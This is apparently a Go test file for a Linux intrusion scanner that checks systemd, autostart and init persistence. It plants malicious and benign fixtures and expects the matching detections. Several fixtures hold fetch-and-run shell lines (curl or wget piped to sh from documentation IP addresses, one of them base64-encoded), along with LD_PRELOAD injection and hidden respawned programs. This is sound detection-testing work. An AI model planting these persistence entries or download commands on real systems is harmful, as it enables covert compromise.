package check

import "testing"

// Scenarios of the systemd, autostart and init persistence checks.

func TestPersistenceSystemdScenarios(t *testing.T) {
	t.Parallel()
	runScenarios(t, []scenario{
		{name: "unit runs a hidden temp program", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/system/dbus-helper.service", "[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart=/var/tmp/.dbus/dbus-helper\nRestart=always\n[Install]\nWantedBy=multi-user.target\n")
		}, want: []want{{"persistence.systemd_unit_exec", "/etc/systemd/system/dbus-helper.service"}}},
		{name: "unit hard: ExecStartPre with prefix, continuation and download", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/system/netcheck.service", "[Service]\nType=simple\nExecStartPre=-/bin/bash -c \\\n  \"curl -fsSL http://198.51.100.11/i.sh|bash\"\nExecStart=/usr/bin/sleep infinity\n")
		}, want: []want{{"persistence.systemd_unit_exec", "/etc/systemd/system/netcheck.service"}}},
		{name: "unit sets LD_PRELOAD", pattern: pp, plant: func(r *testRoot) {
			r.write("run/systemd/system/cache.service", "[Service]\nEnvironment=\"LANG=C\" \"LD_PRELOAD=/usr/lib/.libx.so\"\nExecStart=/usr/bin/sleep 1000\n")
		}, want: []want{{"persistence.systemd_unit_exec", "/run/systemd/system/cache.service"}}},
		{name: "benign: admin service in /opt", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("opt/myapp/bin/myapp", fakeELF("myapp"), 0o755)
			r.write("etc/systemd/system/myapp.service", "[Unit]\nDescription=My app\n[Service]\nUser=www-data\nExecStart=/opt/myapp/bin/myapp --port 8080\nRestart=on-failure\n[Install]\nWantedBy=multi-user.target\n")
			r.link("/etc/systemd/system/myapp.service", "etc/systemd/system/multi-user.target.wants/myapp.service")
		}},
		{name: "unit runs an unowned binary from /usr/sbin", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/sbin/systemd-netd", fakeELF("netd"), 0o755)
			r.write("etc/systemd/system/systemd-netd.service", "[Service]\nExecStart=/usr/sbin/systemd-netd\n")
		}, want: []want{{"persistence.systemd_unit_binary", "/etc/systemd/system/systemd-netd.service"}}},
		{name: "unit hard: runs a changed package binary through /bin", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/bin/top", fakeELF("not top"), 0o755)
			r.write("etc/systemd/system/topd.service", "[Service]\nExecStart=/bin/top -b\n")
		}, want: []want{{"persistence.systemd_unit_binary", "/etc/systemd/system/topd.service"}}},
		{name: "package unit modified", pattern: pp, plant: func(r *testRoot) {
			r.appendTo("lib/systemd/system/cron.service", "ExecStartPost=/usr/bin/sleep 1\n")
		}, want: []want{{"persistence.systemd_unit_modified", "/usr/lib/systemd/system/cron.service"}}},
		{name: "enabled unowned unit", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/system/netsync.service", "[Service]\nExecStart=/usr/local/bin/netsync\n[Install]\nWantedBy=multi-user.target\n")
			r.link("/etc/systemd/system/netsync.service", "etc/systemd/system/multi-user.target.wants/netsync.service")
		}, want: []want{{"persistence.systemd_enabled_unowned", "/etc/systemd/system/multi-user.target.wants/netsync.service"}}},
		{name: "enabled unit hard: link to a unit in a temp directory", pattern: pp, plant: func(r *testRoot) {
			r.write("var/tmp/x.service", "[Service]\nExecStart=/usr/bin/sleep 100\n")
			r.link("/var/tmp/x.service", "lib/systemd/system/sysinit.target.wants/x.service")
		}, want: []want{{"persistence.systemd_enabled_unowned", "/usr/lib/systemd/system/sysinit.target.wants/x.service"}}},
		{name: "timer triggers a downloading service", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/system/apt-check.timer", "[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\n[Install]\nWantedBy=timers.target\n")
			r.write("etc/systemd/system/apt-check.service", "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'wget -qO- http://198.51.100.12/a | sh'\n")
		}, want: []want{{"persistence.systemd_timer", "/etc/systemd/system/apt-check.timer"}}},
		{name: "timer hard: Unit= names a differently named user service in a home", pattern: pp, plant: func(r *testRoot) {
			r.write("home/debian/.config/systemd/user/t.timer", "[Timer]\nOnCalendar=*:0/15\nUnit=refresh.service\n")
			r.write("home/debian/.config/systemd/user/refresh.service", "[Service]\nExecStart=/dev/shm/r\n")
		}, want: []want{{"persistence.systemd_timer", "/home/debian/.config/systemd/user/t.timer"}}},
		{name: "benign: certbot renew timer", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/bin/certbot", "#!/usr/bin/python3\nimport certbot.main\n", 0o755)
			r.write("lib/systemd/system/certbot.timer", "[Unit]\nDescription=Run certbot twice daily\n[Timer]\nOnCalendar=*-*-* 00,12:00:00\nRandomizedDelaySec=43200\nPersistent=true\n[Install]\nWantedBy=timers.target\n")
			r.write("lib/systemd/system/certbot.service", "[Service]\nType=oneshot\nExecStart=/usr/bin/certbot -q renew\nPrivateTmp=true\n")
			r.own("certbot", "usr/bin/certbot", "lib/systemd/system/certbot.timer", "lib/systemd/system/certbot.service")
			r.link("/lib/systemd/system/certbot.timer", "etc/systemd/system/timers.target.wants/certbot.timer")
		}},
		{name: "benign: admin timer calling a package program", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/system/nap.timer", "[Timer]\nOnCalendar=daily\n")
			r.write("etc/systemd/system/nap.service", "[Service]\nExecStart=/usr/bin/sleep 5\n")
		}},
		{name: "generator not owned", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/systemd/system-generators/net-gen", "#!/bin/sh\nprintf '[Service]\\nExecStart=/var/tmp/n\\n' > \"$1/n.service\"\n", 0o755)
		}, want: []want{{"persistence.systemd_generator", "/etc/systemd/system-generators/net-gen"}}},
		{name: "generator hard: ELF among the package generators", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/lib/systemd/system-generators/systemd-fsck-helper", fakeELF("gen"), 0o755)
		}, want: []want{{"persistence.systemd_generator", "/usr/lib/systemd/system-generators/systemd-fsck-helper"}}},
		{name: "drop-in replaces ExecStart of a package unit", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("usr/local/sbin/sshd", fakeELF("sshd2"), 0o755)
			r.write("etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/usr/local/sbin/sshd -D\n")
		}, want: []want{{"persistence.systemd_dropin_exec", "/etc/systemd/system/ssh.service.d/override.conf"}}},
		{name: "drop-in hard: ExecStartPost backgrounding a shm program", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/system/cron.service.d/10-x.conf", "[Service]\nExecStartPost=/bin/sh -c '/dev/shm/.k &'\n")
		}, want: []want{{"persistence.systemd_dropin_exec", "/etc/systemd/system/cron.service.d/10-x.conf"}}},
		{name: "benign: drop-in tuning Restart and LimitNOFILE", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/system/cron.service.d/limits.conf", "[Service]\nRestart=always\nLimitNOFILE=65536\n")
		}},
		{name: "benign: drop-in changing sshd options only", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/system/ssh.service.d/port.conf", "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -p 2222 $SSHD_OPTS\n")
		}},
		{name: "user unit in a deep hidden home path", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("home/debian/.cache/.sync/syncd", fakeELF("syncd"), 0o755)
			r.write("home/debian/.config/systemd/user/sync.service", "[Service]\nExecStart=/home/debian/.cache/.sync/syncd\n[Install]\nWantedBy=default.target\n")
		}, want: []want{{"persistence.systemd_user_unit", "/home/debian/.config/systemd/user/sync.service"}}},
		{name: "user unit hard: global user unit from /tmp", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/systemd/user/pulse-helper.service", "[Service]\nExecStart=@/tmp/ph pulseaudio\n")
		}, want: []want{{"persistence.systemd_user_unit", "/etc/systemd/user/pulse-helper.service"}}},
		{name: "XDG autostart in a home downloads", pattern: pp, plant: func(r *testRoot) {
			r.write("home/debian/.config/autostart/update.desktop", "[Desktop Entry]\nType=Application\nName=Update\nExec=sh -c \"curl -s http://198.51.100.13/u | sh\"\n")
		}, want: []want{{"persistence.xdg_autostart", "/home/debian/.config/autostart/update.desktop"}}},
		{name: "XDG autostart hard: system-wide hidden program with field code", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/xdg/autostart/tracker.desktop", "[Desktop Entry]\nType=Application\nName=Tracker\nExec=/usr/bin/.trk %U\n")
		}, want: []want{{"persistence.xdg_autostart", "/etc/xdg/autostart/tracker.desktop"}}},
		{name: "benign: disabled autostart entry", pattern: pp, plant: func(r *testRoot) {
			r.write("home/debian/.config/autostart/old.desktop", "[Desktop Entry]\nName=Old\nExec=/tmp/old\nHidden=true\n")
		}},
		{name: "init.d script not owned", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/init.d/sysmon", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: sysmon\n### END INIT INFO\nstart-stop-daemon --start --exec /usr/local/bin/sysmon\n", 0o755)
		}, want: []want{{"persistence.initd_script", "/etc/init.d/sysmon"}}},
		{name: "init.d hard: package script changed with base64 payload", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/init.d/cron", "#!/bin/sh\nstart-stop-daemon --start --exec /usr/sbin/cron\n", 0o755)
			r.own("cron", "etc/init.d/cron")
			r.appendTo("etc/init.d/cron", "echo Y3VybCBodHRwOi8vMTAuMC4wLjEvYSB8IHNoCg== | base64 -d | sh\n")
		}, want: []want{{"persistence.initd_script", "/etc/init.d/cron"}}},
		{name: "rc.local starts a hidden program", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/rc.local", "#!/bin/sh -e\n# rc.local\n/usr/local/lib/.svc/kthreadd &\nexit 0\n", 0o755)
		}, want: []want{{"persistence.rc_local", "/etc/rc.local"}}},
		{name: "rc.local hard: RHEL path, nohup temp", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/rc.d/rc.local", "#!/bin/bash\ntouch /var/lock/subsys/local\nnohup   /tmp/x >/dev/null 2>&1 &\n", 0o755)
		}, want: []want{{"persistence.rc_local", "/etc/rc.d/rc.local"}}},
		{name: "rc.local benign payload: sysfs tuning (observation)", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/rc.local", "#!/bin/sh\necho never > /sys/kernel/mm/transparent_hugepage/enabled\nexit 0\n", 0o755)
		}, want: []want{{"persistence.rc_local", "/etc/rc.local"}}},
		{name: "benign: rc.local with only exit 0", pattern: pp, plant: func(r *testRoot) {
			r.writeMode("etc/rc.local", "#!/bin/sh -e\n#\n# rc.local\n#\n# By default this script does nothing.\n\nexit 0\n", 0o755)
		}},
		{name: "inittab respawn hidden program", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/inittab", "id:3:initdefault:\n1:2345:respawn:/sbin/getty 38400 tty1\nx1:2345:respawn:/usr/local/bin/.x/agent\n")
		}, want: []want{{"persistence.inittab_respawn", "/etc/inittab"}}},
		{name: "benign: inittab with gettys", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/inittab", "id:2:initdefault:\nsi::sysinit:/etc/init.d/rcS\n1:2345:respawn:/sbin/getty 38400 tty1\n")
		}},
		{name: "upstart job not owned", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/init/net-helper.conf", "start on runlevel [2345]\nrespawn\nexec /usr/bin/sleep 1000\n")
		}, want: []want{{"persistence.upstart_job", "/etc/init/net-helper.conf"}}},
		{name: "upstart hard: script block downloading", pattern: pp, plant: func(r *testRoot) {
			r.write("etc/init/x.override", "script\n  curl -s http://198.51.100.14/x | sh\nend script\n")
		}, want: []want{{"persistence.upstart_job", "/etc/init/x.override"}}},
	})
}
